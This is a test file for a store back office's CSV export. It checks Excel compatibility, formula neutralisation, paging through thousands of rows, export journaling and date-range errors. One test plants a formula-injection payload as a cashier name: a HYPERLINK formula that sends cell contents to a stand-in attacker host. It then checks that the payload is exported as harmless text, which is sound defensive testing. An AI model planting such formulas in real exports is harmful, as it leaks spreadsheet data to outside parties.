/**
 * CSV exports: what Excel opens (BOM, headers in the manager's language), a formula
 * planted in a name arrives as text, thousands of rows page through without a gap or a
 * repeat, every export is journaled, and bad ranges get a precise error.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvCell } from '../../gateway/admin/csv.js'
import { hashPassword, hashPin, hashToken } from '../../gateway/auth/secrets.js'
import { loggedIn } from '../helpers/admin.js'
import { CASHIER_PIN, POS_TOKEN, startStoreGateway } from '../helpers/vouchers.js'

const PASSWORD = 'correct horse battery'
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

/** RFC 4180 as Excel reads it: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  const endField = () => {
    row.push(field)
    field = ''
  }
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"'
      i++
    } else if (c === '"') quoted = !quoted
    else if (quoted || (c !== ',' && c !== '\r')) field += c
    else if (c === ',') endField()
    else {
      endField()
      rows.push(row)
      row = []
      i++ // the \n after \r
    }
  }
  return rows
}

describe('csv cells', () => {
  it('neutralises formulas in text, keeps numbers, quotes what needs it', () => {
    expect(csvCell('=1+2')).toBe("'=1+2")
    for (const lead of ['+', '-', '@', '\t', '\r']) expect(csvCell(`${lead}x`).replace(/^"/, '')).toMatch(/^'/)
    expect(csvCell(-5)).toBe('-5')
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell(' padded')).toBe('" padded"')
    expect(csvCell(null)).toBe('')
    expect(csvCell('门店')).toBe('门店')
  })
})

describe('back office export', () => {
  let g: Awaited<ReturnType<typeof startStoreGateway>>
  let b: Awaited<ReturnType<typeof loggedIn>>

  beforeAll(async () => {
    g = await startStoreGateway({
      admin: {
        users: [{ id: 'mei', name: 'Mei', role: 'manager', passwordHash: await hashPassword(PASSWORD) }],
      },
      till: {
        cashiers: [{ id: 'eve', name: EVIL, pinHash: await hashPin(CASHIER_PIN) }],
        posTokens: [{ name: 'pos-1', tokenHash: hashToken(POS_TOKEN) }],
      },
    })
    b = await loggedIn(g.app, 'mei', PASSWORD)
  }, 30_000)
  afterAll(() => g?.stop())

  it('opens in Excel with Chinese headers, and a formula in a name arrives as text', async () => {
    const v = await g.gateway.vouchers.issue({ campaignId: 12, channel: 'cli' })
    expect((await g.gateway.vouchers.redeem(v.code, { device: null, cashier: 'eve', source: {} })).ok).toBe(true)
    const res = await b.get('/admin/export/redemptions.csv?lang=zh')
    expect(res.statusCode).toBe(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="shop-a-redemptions-start-\d{4}-\d\d-\d\d\.csv"$/,
    )
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf])) // UTF-8 BOM
    const rows = parseCsv(res.body.replace(/^\uFEFF/, ''))
    expect(rows[0]).toEqual(['时间', '券号', '活动', '门店', '设备', '收银员', '撤销时间', '撤销人'])
    expect(rows).toHaveLength(2)
    expect(rows[1]![1]).toBe(v.key)
    expect(rows[1]![2]).toBe('B店立减20元')
    expect(rows[1]![3]).toBe('Store shop-a')
    expect(rows[1]![5]).toBe(`'${EVIL}`)
    expect(rows[1]![0]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/)
    const journaled = g.gateway.journal
      .query("SELECT payload FROM events WHERE type = 'admin.export'")
      .pluck()
      .all() as string[]
    expect(JSON.parse(journaled.at(-1)!)).toMatchObject({ user: 'mei', table: 'redemptions' })
  })

  it('pages through thousands of rows without a gap or a repeat, within the days asked', async () => {
    const N = 2345
    await Promise.all(
      Array.from({ length: N }, (_, i) =>
        g.gateway.pos.recordSale('pos-1', {
          idempotencyKey: `sale-${i}`,
          amount: 100 + i,
          currency: 'CNY',
          member: null,
          payments: [{ method: 'cash', amount: 100 + i }],
          redemptions: [],
          reference: null,
        }),
      ),
    )
    const rows = parseCsv((await b.get('/admin/export/sales.csv?lang=en')).body.replace(/^\uFEFF/, ''))
    expect(rows[0]).toEqual(['Time', 'Cash register', 'Amount', 'Currency', 'Member'])
    const amounts = rows.slice(1).map((r) => Number(r[2]))
    expect(amounts).toHaveLength(N)
    expect(new Set(amounts).size).toBe(N)
    expect(Math.min(...amounts)).toBe(1)
    const today = new Date()
    const day = (d: Date) =>
      `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`
    const yesterday = new Date(today.getFullYear(), today.getMonth(), today.getDate() - 1)
    const none = parseCsv((await b.get(`/admin/export/sales.csv?from=${day(yesterday)}&to=${day(yesterday)}`)).body)
    expect(none).toHaveLength(1) // the header alone
    const todays = parseCsv((await b.get(`/admin/export/sales.csv?from=${day(today)}&to=${day(today)}`)).body)
    expect(todays).toHaveLength(N + 1)
  }, 60_000)

  it('says precisely what is wrong with a range or a table', async () => {
    const bad = await b.get('/admin/export/sales.csv?from=2026-02-30')
    expect(bad.statusCode).toBe(400)
    expect(bad.json()).toMatchObject({ error: 'bad_day' })
    const backwards = await b.get('/admin/export/sales.csv?from=2026-03-02&to=2026-03-01')
    expect(backwards.json()).toMatchObject({ error: 'bad_range' })
    expect((await b.get('/admin/export/sales.csv?from=yesterday')).statusCode).toBe(400)
    const unknown = await b.get('/admin/export/passwords.csv')
    expect(unknown.statusCode).toBe(404)
    expect(unknown.json<{ message: string }>().message).toContain('redemptions, vouchers, sales')
  })

  it('exports every table with its header', async () => {
    for (const table of ['vouchers', 'plays', 'wifi', 'members', 'print']) {
      const res = await b.get(`/admin/export/${table}.csv?lang=en`)
      expect(res.statusCode, table).toBe(200)
      expect(parseCsv(res.body.replace(/^\uFEFF/, ''))[0]!.length, table).toBeGreaterThan(2)
    }
  })
})
